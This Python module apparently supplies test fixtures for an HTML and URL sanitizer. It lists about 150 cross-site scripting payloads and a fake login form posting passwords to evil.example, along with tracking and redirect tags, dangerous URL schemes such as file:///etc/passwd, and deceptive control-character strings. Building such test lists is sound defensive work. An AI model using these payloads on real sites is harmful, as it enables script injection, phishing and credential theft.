"""What strangers may put into a feed or a page: markup, addresses, and text that pretends.

Each list is the one place of its kind; the tests of every stage and every page take from it.
"""

from typing import Final

_CALL: Final = "steal(1)"

_SCRIPTS = [
    f"<script>{_CALL}</script>", f"<SCRIPT>{_CALL}</SCRIPT>", "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"<script/x>{_CALL}</script>",
    f"<script\n>{_CALL}</script\n>", f"<script>{_CALL}", f"<<script>{_CALL}//<</script>",
    f"<script type=module>{_CALL}</script>", f"<script>/*</script><script>*/{_CALL}</script>",
    f"</title><script>{_CALL}</script>", f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>", f'"><script>{_CALL}</script>', f"'><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>", f"--><script>{_CALL}</script>", f"<b><script>{_CALL}</script></b>",
    "<script nonce=x src=data:text/javascript,steal(1)></script>", "{{ 7 * 7 }}{% raw %}",
]  # fmt: skip
_HANDLERS = [
    f"<{element} {handler}={_CALL}>x</{element}>"
    for element, handler in [
        ("img src=x", "onerror"), ("body", "onload"), ("p", "onclick"), ("a href=#", "onfocus"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("details open", "ontoggle"), ("marquee", "onstart"),
        ("div style=animation:x", "onanimationend"), ("b", "onmouseover"), ("b", "ONMOUSEOVER"),
        ("b", "onpointerenter"), ("ul", "onscroll"), ("q", "oncopy"), ("object data=x", "onerror"),
        ("td", "onbeforeinput"), ("blockquote", "oncut"), ("table background=x", "onload"),
    ]
]  # fmt: skip
_BROKEN_ATTRIBUTES = [
    f"<img src=x onerror\n=\n{_CALL}>", f"<img/src=x/onerror={_CALL}>", f'<img """><b onclick={_CALL}>">',
    f"<img src='x'onerror='{_CALL}'>", f"<img src=`x` onerror=`{_CALL}`>", f"<a/href=x/onclick={_CALL}>x",
    f'" onmouseover="{_CALL}', f"' onfocus={_CALL} autofocus='", f'x" style="x" onclick="{_CALL}',
    f"<b title='</b><img src=x onerror={_CALL}>'>x", f'<a title="&quot;><img src=x onerror={_CALL}>">x</a>',
    f"<b \x00onclick={_CALL}>x</b>", f"<b\x0conclick={_CALL}>x</b>", f"<img src=x onerror&#61;{_CALL}>",
    f"<a href='x' href='javascript:{_CALL}'>x</a>", "<p id=news class=lead name=stories>x</p>",
]  # fmt: skip
_NAMESPACES = [
    f"<svg/onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>", f"<svg><a xlink:href=javascript:{_CALL}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x></svg>", "<svg><use href=//evil.example/x.svg#a></svg>",
    f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>", f"<svg><style><img src=x onerror={_CALL}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={_CALL}>'>", f"<svg><desc><img src=x onerror={_CALL}></desc></svg>",
    f"<svg><title><script>{_CALL}</script></title></svg>", f"<svg><set attributeName=onmouseover to={_CALL}></svg>",
    f"<math><mi//xlink:href='javascript:{_CALL}'>x</mi></math>", f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_CALL}></annotation-xml></math>",
    f"<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror={_CALL}>'>",
    f"<math><style><!--</style><img title='--><img src=x onerror={_CALL}>'>", f"<math href=javascript:{_CALL}>x</math>",
    f"<xml:namespace prefix=t><t:set attributeName=innerHTML to=<img&#11;src=x&#11;onerror={_CALL}>>",
]  # fmt: skip
_RAW_TEXT = [
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'></noscript>", f"<noscript><script>{_CALL}</script></noscript>",
    f"<xmp><script>{_CALL}</script></xmp>", f"<xmp></xmp><script>{_CALL}</script>", f"<plaintext><script>{_CALL}</script>",
    f"<textarea><script>{_CALL}</script></textarea>", f"<title><img src=x onerror={_CALL}></title>",
    f"<noembed><img src=x onerror={_CALL}></noembed>", f"<noframes><script>{_CALL}</script></noframes>",
    f"<listing>&lt;img src=x onerror={_CALL}&gt;</listing>", f"<template><script>{_CALL}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={_CALL}></template>",
    f"<select><option><style></select><img src=x onerror={_CALL}></style>", f"<keygen autofocus onfocus={_CALL}>",
]  # fmt: skip
_COMMENTS = [
    f"<!--><img src=x onerror={_CALL}>-->", f"<!---><script>{_CALL}</script>-->", f"<!-- --!><img src=x onerror={_CALL}>",
    f"<!--[if gte IE 4]><script>{_CALL}</script><![endif]-->", f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<![CDATA[</title>]]><img src=x onerror={_CALL}>", f"<!DOCTYPE x [<!ENTITY y '{_CALL}'>]>&y;",
    f"<?xml-stylesheet href='javascript:{_CALL}'?>", f"<?php ?><img src=x onerror={_CALL}>", f"<!x><script>{_CALL}</script>",
]  # fmt: skip
_STYLES = [
    "<style>@import '//evil.example/a.css';</style>", "<style>*{background:url(//evil.example/p)}</style>",
    f"<p style='background:url(javascript:{_CALL})'>x</p>", "<p style='position:fixed;inset:0'>Log in here</p>",
    "<link rel=stylesheet href=//evil.example/a.css>", f"<style><!--</style><script>{_CALL}//--></script>",
    f"<p style=width:expression({_CALL})>x</p>", "<font color=red size=99>x</font>",
]  # fmt: skip
_FORMS = [
    "<form action=//evil.example><input name=password type=password><button>Log in</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>", f"<input type=image src=x formaction=javascript:{_CALL}>",
    f"<isindex action=javascript:{_CALL} type=image>", "<label for=q>x</label><select name=x><option>y</select>",
    f"<form id=f></form><button form=f formaction=javascript:{_CALL}>x", "<dialog open><form method=dialog>x</form></dialog>",
]  # fmt: skip
_STEERING = [
    "<meta http-equiv=refresh content='0;url=//evil.example'>", f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    "<base href=//evil.example/>", f"<base href=javascript:{_CALL}//><a href=#>x</a>", "<meta charset=utf-7>+ADw-script+AD4-",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>", f"<iframe src=javascript:{_CALL}></iframe>",
    f"<iframe srcdoc=&lt;script&gt;{_CALL}&lt;/script&gt;>", "<frameset><frame src=//evil.example></frameset>",
    "<object data=//evil.example/x.swf></object>", f"<embed src=javascript:{_CALL}>", "<applet code=x archive=//evil.example/x.jar>",
    "<portal src=//evil.example></portal>", "<a href=//evil.example target=_top ping=//evil.example/p>x</a>",
    "<img src='https://evil.example/p.gif' width=1 height=1>", "<link rel=prefetch href=//evil.example/>",
]  # fmt: skip
_REFERENCES = [
    f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"&#60;script&#62;{_CALL}&#60;/script&#62;", f"&#x3c;img src=x onerror={_CALL}&#x3e;",
    f"&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;", f"&LT;script&GT;{_CALL}", f"&#0;<img src=x onerror={_CALL}>",
    f"&lt<script>{_CALL}</script>", f"\uff1cscript\uff1e{_CALL}\uff1c/script\uff1e", f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"<a href='&#106;avascript:{_CALL}'>x</a>", f"<a href='java&NewLine;script:{_CALL}'>x</a>",
    f"<a href='&#0000106&#0000097vascript:{_CALL}'>x</a>",
]  # fmt: skip
_LINKS = [
    f"<a href='javascript:{_CALL}'>x</a>", f"<a href=' \x01javascript:{_CALL}'>x</a>", f"<a href='java\nscript:{_CALL}'>x</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>", "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=x>'>", f"<img src='javascript:{_CALL}'>",
    f"<img srcset='javascript:{_CALL} 1x' sizes=x>", "<picture><source srcset=//evil.example/x></picture>",
]  # fmt: skip
_NESTING = [
    "<b>" * 600 + f"<script>{_CALL}</script>" + "</b>" * 600,
    "<div>" * 600 + f"<img src=x onerror={_CALL}>", "<table><tr><td>" * 60 + f"<svg onload={_CALL}>",
    "<blockquote>" * 300 + "x", f"</b></a></li></ol></div></article></main><script>{_CALL}</script>",
    "<a><a><a><b><i><a>" * 20 + f"<a href=javascript:{_CALL}>x", "<ul><li>" * 200 + "x", "</p>" * 300 + "<p " * 50 + "x",
]  # fmt: skip

MARKUP: Final = [
    *_SCRIPTS, *_HANDLERS, *_BROKEN_ATTRIBUTES, *_NAMESPACES, *_RAW_TEXT, *_COMMENTS, *_STYLES,
    *_FORMS, *_STEERING, *_REFERENCES, *_LINKS, *_NESTING,
]  # fmt: skip
"""Markup that would run, load, submit, hide or steer where it is taken for what it says."""

ADDRESSES: Final = [
    "javascript:steal(1)", "JaVaScRiPt:steal(1)", " javascript:x", "java\tscript:x", "java\nscript:x",
    "\x01javascript:x", "\u00a0javascript:x", "javascript&#58;x", "javascript&colon;x", "java\x00script:x",
    "javascript://news.example/%0asteal(1)", "vbscript:x", "VBSCRIPT:x", "livescript:x",
    "data:text/html,<script>x</script>", "data:image/svg+xml;base64,PHN2Zz4=", "DATA:text/html,x",
    "file:///etc/passwd", "file://news.example/x", "ftp://a.example/x", "mailto:a@a.example", "about:blank",
    "blob:https://evil.example/1", "view-source:http://a.example", "feed:http://a.example",
    "feed:javascript:x", "http:", "http://", "https:///x", "http://user:word@a.example/",
    "https:\\\\evil.example", "\\\\evil.example\\x", "http://a.example:99999/", "http://[::1", "tel:1",
    "intent://x", "jar:http://a.example!/", "ws://a.example/", "chrome://settings", "x" * 5000,
]  # fmt: skip
"""What is no address of the web, in forty spellings."""

PRETENDING: Final = [
    *(f"Order{c}restored" for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    *(f"Har{c}bour" for c in "\u200b\u200e\u200f\u2060\ufeff\u00ad\u061c\u180e"),
    "Ceasefire\r\n2026-03-01T09:00:00 ERROR disk full", "Ceasefire\nBcc: everybody@example.org",
    "Ceasefire\x1b[2J\x1b[31mred", "Ceasefire\x9b31m", "Ceasefire\x07\x08\x08\x7f", "Cease\x00fire",
    "Cease\u2028fire\u2029now", "H\u200d\u200d\u200d\u200carbour", "\U000e0041\U000e0042Harbour",
]  # fmt: skip
"""Text that shows, sorts or logs as something else than it is."""

assert len(set(MARKUP)) == len(MARKUP) >= 150
assert len(set(ADDRESSES)) == len(ADDRESSES) == 40
assert len(set(PRETENDING)) >= 25
